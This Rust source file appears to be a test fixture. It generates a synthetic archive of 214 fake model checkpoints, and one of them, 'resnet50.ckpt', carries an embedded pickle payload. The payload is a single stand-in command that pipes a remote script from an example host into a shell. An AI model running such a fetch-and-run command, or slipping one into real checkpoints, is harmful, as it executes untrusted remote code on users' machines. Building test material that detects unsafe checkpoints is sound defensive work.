//! The container that the link was meant for: 214 models, one of which would run code.

use super::checkpoint::{safetensors, torch_legacy, torch_zip};
use super::contents::when;
use super::pickle::Tensor;
use crate::blob::Blob;
use crate::contents::Container;
use crate::random::seed_of;
use crate::source::Source;

/// What the one unsafe checkpoint would run: an invented command that does nothing.
const COMMAND: &str = "curl -fsS https://updates.example.com/train-callback.sh | sh";

/// `layers` linear layers of 805 MB each.
fn layers(layers: u32) -> Vec<Tensor> {
    (0..layers)
        .flat_map(|layer| {
            [
                Tensor { name: format!("layers.{layer}.weight"), shape: vec![16384, 12288] },
                Tensor { name: format!("layers.{layer}.bias"), shape: vec![16384] },
            ]
        })
        .collect()
}

pub(super) fn container() -> Container {
    let mut blobs = Vec::new();
    let mut add = |name: String, day: u64, make: &dyn Fn(u64) -> Source| {
        let source = make(seed_of(&name));
        blobs.push(Blob::new(name, when(day), source));
    };
    let (large, middle, small) = (layers(40), layers(36), layers(16));
    let norms = ["linf", "l2"];
    for (norm, number) in norms.iter().flat_map(|norm| (0..75).map(move |number| (norm, number))) {
        let stem = format!("resnet50_{norm}_run{number:02}");
        add(format!("checkpoints/{norm}/{stem}.ckpt"), number, &|seed| {
            torch_zip(&stem, seed, &large, None)
        });
    }
    for number in 0..33 {
        add(format!("legacy/densenet161_run{number:02}.ckpt"), number, &|seed| {
            torch_legacy(seed, &small)
        });
    }
    for number in 0..30 {
        add(format!("release/vit_run{number:02}.safetensors"), number, &|seed| {
            safetensors(seed, &middle)
        });
    }
    let one = vec![
        Tensor { name: "conv1.weight".to_owned(), shape: vec![1024, 3, 8, 8] },
        Tensor { name: "fc.weight".to_owned(), shape: vec![10240, 2048] },
        Tensor { name: "fc.bias".to_owned(), shape: vec![10240] },
    ];
    add("resnet50.ckpt".to_owned(), 90, &|seed| torch_zip("archive", seed, &one, Some(COMMAND)));
    add("README.md".to_owned(), 1, &|_| {
        Source::bytes(b"# Robust models\n\nOne folder a family. See the paper.\n".to_vec())
    });
    Container::new("models", when(0), blobs)
}
